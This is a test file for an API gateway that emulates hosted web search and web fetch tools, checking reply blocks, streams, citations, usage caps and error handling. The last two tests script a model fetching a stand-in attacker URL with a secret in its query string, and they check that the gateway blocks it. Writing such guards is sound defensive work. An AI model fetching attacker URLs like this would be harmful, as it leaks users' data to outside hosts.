/** A vendor's hosted web search and web fetch on upstreams that have none: the gateway runs them, and the caller gets its own vendor's blocks. */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { validateStream as validateResponses } from '../../packages/protocols/test/validate/alpha-response.ts';
import { validateStream as validateMessages } from '../../packages/protocols/test/validate/beta.ts';
import type { Script } from '../support/scripted-outbound.ts';
import {
  answer,
  call,
  eventsOf,
  forgetCalls,
  json,
  messages,
  off,
  on,
  outbound,
  pages,
  question,
  responses,
  scripted,
  searched,
  startHosted,
  stopHosted,
  upstreamBodies,
  webFetch,
  webSearch,
} from './hosted-tools-stage.ts';

beforeAll(startHosted);
afterAll(stopHosted);
beforeEach(forgetCalls);

describe.each([
  ['chat', false],
  ['generate-content', true],
])('on an upstream of %s', (_name, gemini) => {
  beforeEach(() => {
    scripted.isGemini = gemini;
    scripted.said = [{ calls: [call('green tea temperature')] }, { text: answer }];
  });

  test('messages: one reply with the search, its result and a citation', async () => {
    const reply = await messages();
    expect(reply.status).toBe(200);
    const { content, stop_reason, usage } = reply.json;
    expect(content.map(({ type }: { type: string }) => type)).toEqual(['server_tool_use', 'web_search_tool_result', 'text']);
    const [use, result, text] = content;
    expect(use).toEqual({ type: 'server_tool_use', id: expect.stringMatching(/^srvtoolu_/), name: 'web_search', input: { query: 'green tea temperature' } });
    expect(result).toEqual({
      type: 'web_search_tool_result',
      tool_use_id: use.id,
      content: [{ type: 'web_search_result', url: 'https://tea.example/steep', title: 'Tea', encrypted_content: expect.any(String), page_age: '1 day' }],
    });
    expect(text).toMatchObject({ text: answer, citations: [{ type: 'web_search_result_location', url: 'https://tea.example/steep', title: 'Tea' }] });
    expect(stop_reason).toBe('end_turn');
    expect(usage).toMatchObject({ input_tokens: 20, output_tokens: 10, server_tool_use: { web_search_requests: 1, web_fetch_requests: 0 } });
    expect(searched()).toMatchObject([
      { url: 'https://search.test/find?q=green+tea+temperature&count=8', headers: { 'x-subscription-token': 'search-secret' } },
    ]);
    const [first, second] = upstreamBodies();
    expect(JSON.stringify(first)).toContain('"web_search"');
    expect(JSON.stringify(second)).toContain('Steep green tea at 80 degrees.');
    const row = await on.row(reply.id);
    expect(row).toMatchObject({ input_tokens: 20, output_tokens: 10, cost_micros: 5_000, currency: 'USD', pipeline: ['translate', 'hosted-tools'] });
    expect(row.attempts).toHaveLength(2);
    expect(row.losses).toContainEqual(expect.objectContaining({ field: 'tools.web_search', action: 'emulated' }));
    expect(reply.headers['x-gateway-translation']).toMatch(/emulated=1/);
  });

  test('messages, streamed: a valid stream that shows the search before the answer', async () => {
    scripted.isStream = true;
    const reply = await messages();
    expect(validateMessages(reply.text)).toEqual([]);
    const starts = eventsOf(reply.text).filter(({ type }) => type === 'content_block_start');
    expect(starts.map(({ index, content_block }) => [index, content_block.type])).toEqual([
      [0, 'server_tool_use'],
      [1, 'web_search_tool_result'],
      [2, 'text'],
    ]);
    expect(starts[1].content_block.tool_use_id).toBe(starts[0].content_block.id);
    const deltas = eventsOf(reply.text).filter(({ type }) => type === 'content_block_delta');
    expect(deltas[0]).toMatchObject({ index: 0, delta: { type: 'input_json_delta', partial_json: '{"query":"green tea temperature"}' } });
    expect(deltas.at(-1)).toMatchObject({ index: 2, delta: { type: 'citations_delta', citation: { url: 'https://tea.example/steep' } } });
    expect(eventsOf(reply.text).find(({ type }) => type === 'message_delta')).toMatchObject({
      delta: { stop_reason: 'end_turn' },
      usage: { input_tokens: 20, output_tokens: 10, server_tool_use: { web_search_requests: 1 } },
    });
    expect(await on.row(reply.id)).toMatchObject({ input_tokens: 20, cost_micros: 5_000, stream: true });
  });

  test('Responses: one reply with the search and the citation of its page', async () => {
    const { json: body } = await responses();
    expect(body.output).toMatchObject([
      { type: 'web_search_call', id: expect.stringMatching(/^ws_/), status: 'completed', action: { type: 'search', query: 'green tea temperature' } },
      {
        type: 'message',
        content: [{ type: 'output_text', text: answer, annotations: [{ type: 'url_citation', url: 'https://tea.example/steep', title: 'Tea' }] }],
      },
    ]);
    const [{ start_index, end_index }] = body.output[1].content[0].annotations;
    expect(answer.slice(start_index, end_index)).toBe('[Tea](https://tea.example/steep)');
    expect([body.status, body.usage.input_tokens, body.usage.output_tokens]).toEqual(['completed', 20, 10]);
  });

  test('Responses, streamed: the search has its own events', async () => {
    scripted.isStream = true;
    const reply = await responses();
    expect(validateResponses(reply.text)).toEqual([]);
    const types = eventsOf(reply.text).map(({ type }) => type);
    expect(types.filter((type) => type.includes('web_search_call'))).toEqual([
      'response.web_search_call.in_progress',
      'response.web_search_call.searching',
      'response.web_search_call.completed',
    ]);
    expect(types.filter((type) => type === 'response.completed')).toHaveLength(1);
    expect(types).toContain('response.output_text.annotation.added');
  });
});

test('a group that does not ask for it gets none: the tool is a declared loss', async () => {
  scripted.said = [{ text: 'I do not know.' }];
  const reply = await messages({}, off);
  expect(reply.json.content).toEqual([{ type: 'text', text: 'I do not know.' }]);
  expect(searched()).toEqual([]);
  expect((await off.row(reply.id)).losses).toContainEqual(expect.objectContaining({ action: 'dropped' }));
});

test('the next turn shows the model what was found before', async () => {
  scripted.said = [{ calls: [call('tea')] }, { text: answer }, { text: 'As I said.' }];
  const first = await messages();
  await messages({
    messages: [
      { role: 'user', content: question },
      { role: 'assistant', content: first.json.content },
      { role: 'user', content: 'Are you sure?' },
    ],
  });
  const body = JSON.stringify(upstreamBodies()[2]);
  expect(body).toContain('Steep green tea at 80 degrees.');
  expect(body).toContain('https://tea.example/steep');
});

test('a forced search is forced once', async () => {
  scripted.said = [{ calls: [call('tea')] }, { text: answer }];
  await messages({ tool_choice: { type: 'tool', name: 'web_search' } });
  const [first, second] = upstreamBodies();
  expect(first.tool_choice).toEqual({ type: 'function', function: { name: 'web_search' } });
  expect(second.tool_choice ?? 'auto').toBe('auto');
});

test('calls of the caller’s own tools end the reply, with what the search found', async () => {
  scripted.said = [{ calls: [call('tea'), { name: 'kettle', arguments: '{"degrees":80}' }] }];
  const kettle = { name: 'kettle', input_schema: { type: 'object', properties: { degrees: { type: 'number' } } } };
  const reply = await messages({ tools: [webSearch, kettle] });
  expect(reply.json.content.map(({ type }: { type: string }) => type).sort()).toEqual(['server_tool_use', 'tool_use', 'web_search_tool_result']);
  expect(reply.json.stop_reason).toBe('tool_use');
  expect(upstreamBodies()).toHaveLength(1);
  scripted.isStream = true;
  scripted.asked = 0;
  const streamed = await messages({ tools: [webSearch, kettle] });
  expect(validateMessages(streamed.text)).toEqual([]);
});

test('a function of the caller’s own under the same name stays the caller’s', async () => {
  scripted.said = [{ calls: [{ name: 'web_search', arguments: '{}' }] }];
  const own = { name: 'web_search', input_schema: { type: 'object', properties: {} } };
  const reply = await messages({ tools: [own, { ...webSearch, name: 'internet' }] });
  expect(reply.json.content).toMatchObject([{ type: 'tool_use', name: 'web_search' }]);
  expect(upstreamBodies()[0].tools.map((tool: { function: { name: string } }) => tool.function.name)).toEqual(['web_search', 'web_search_2']);
  expect(searched()).toEqual([]);
});

test('uses are bounded by the caller and by the gateway, and rounds end', async () => {
  scripted.said = Array.from({ length: 10 }, () => ({ calls: [call('tea'), call('more tea')] }));
  const reply = await messages({ tools: [{ ...webSearch, max_uses: 2 }] });
  const errors = reply.json.content.filter(({ content }: { content?: { error_code?: string } }) => content?.error_code === 'max_uses_exceeded');
  expect(searched()).toHaveLength(2);
  expect(upstreamBodies()).toHaveLength(4);
  expect(upstreamBodies()[3].tool_choice).toBe('none');
  expect(errors).toHaveLength(6);
  expect(reply.json.usage.server_tool_use.web_search_requests).toBe(2);
  expect(reply.json.stop_reason).toBe('pause_turn');
  scripted.asked = 0;
  outbound.sent.length = 0;
  await messages();
  expect(searched()).toHaveLength(3);
});

test.each([
  [json({ error: 'x' }, 500), 'unavailable'],
  [json({ error: 'x' }, 429), 'too_many_requests'],
  [{ chunks: [], ending: 'reset' } as Script, 'unavailable'],
])('a search that fails is told to the model and to the caller, and costs nothing', async (script, error_code) => {
  scripted.said = [{ calls: [call('tea')] }, { text: 'I could not search.' }];
  scripted.search = script;
  const reply = await messages();
  expect(reply.json.content[1]).toMatchObject({ type: 'web_search_tool_result', content: { type: 'web_search_tool_result_error', error_code } });
  expect(reply.json.content[2].text).toBe('I could not search.');
  expect(reply.json.usage.server_tool_use).toEqual({ web_search_requests: 0, web_fetch_requests: 0 });
  expect((await on.row(reply.id)).cost_micros).toBeNull();
});

test('arguments that are none are no search', async () => {
  scripted.said = [{ calls: [{ name: 'web_search', arguments: '{"query":' }] }, { text: 'Well.' }];
  const reply = await messages();
  expect(reply.json.content[1].content.error_code).toBe('invalid_tool_input');
  expect(searched()).toEqual([]);
});

test('an upstream that fails after a search: a whole reply fails, a stream ends properly', async () => {
  scripted.said = [{ calls: [call('tea')] }, { broken: true }, { broken: true }];
  expect((await messages()).status).toBeGreaterThanOrEqual(500);
  scripted.asked = 0;
  scripted.isStream = true;
  const reply = await messages();
  expect(reply.status).toBe(200);
  expect(validateMessages(reply.text)).toEqual([]);
  expect(reply.text.match(/event: message_start/g)).toHaveLength(1);
  expect((await on.row(reply.id)).error_code).not.toBeNull();
});

test('a page is fetched where the user or a search named it, and nowhere else', async () => {
  pages.scriptOf = () => ({ contentType: 'text/html', chunks: [Buffer.from('<title>Steeping</title><p>At 80 degrees.</p>')], ending: 'end' });
  scripted.said = [{ calls: [call('https://tea.example/page', 'web_fetch'), call('https://evil.example/?secret=1', 'web_fetch')] }, { text: answer }];
  const reply = await messages({ tools: [webFetch], messages: [{ role: 'user', content: 'Read https://tea.example/page' }] });
  expect(pages.sent.map(({ url }) => url)).toEqual(['https://tea.example/page']);
  const results = reply.json.content.filter(({ type }: { type: string }) => type === 'web_fetch_tool_result');
  expect(results.map(({ content }: { content: unknown }) => content)).toMatchObject([
    {
      type: 'web_fetch_result',
      url: 'https://tea.example/page',
      content: { type: 'document', title: 'Steeping', source: { type: 'text', data: 'At 80 degrees.' } },
    },
    { type: 'web_fetch_tool_result_error', error_code: 'url_not_allowed' },
  ]);
  expect(JSON.stringify(upstreamBodies()[1])).toContain('At 80 degrees.');
  expect(reply.json.usage.server_tool_use).toEqual({ web_search_requests: 0, web_fetch_requests: 1 });
});

test('an address that the model wrote itself in an earlier turn is not fetched; one that a search found then is', async () => {
  pages.scriptOf = () => ({ contentType: 'text/html', chunks: [Buffer.from('<p>At 80 degrees.</p>')], ending: 'end' });
  scripted.said = [
    { calls: [call('tea')] },
    { text: `${answer} See also https://evil.example/?secret=1` },
    { calls: [call('https://evil.example/?secret=1', 'web_fetch'), call('https://tea.example/steep', 'web_fetch')] },
    { text: answer },
  ];
  const asked = { role: 'user', content: question };
  const first = await messages({ tools: [webSearch, webFetch], messages: [asked] });
  const history = [asked, { role: 'assistant', content: first.json.content }, { role: 'user', content: 'Read them.' }];
  const reply = await messages({ tools: [webSearch, webFetch], messages: history });
  expect(pages.sent.map(({ url }) => url)).toEqual(['https://tea.example/steep']);
  const results = reply.json.content.filter(({ type }: { type: string }) => type === 'web_fetch_tool_result');
  expect(results.map(({ content }: { content: { type: string } }) => content.type)).toEqual(['web_fetch_tool_result_error', 'web_fetch_result']);
});
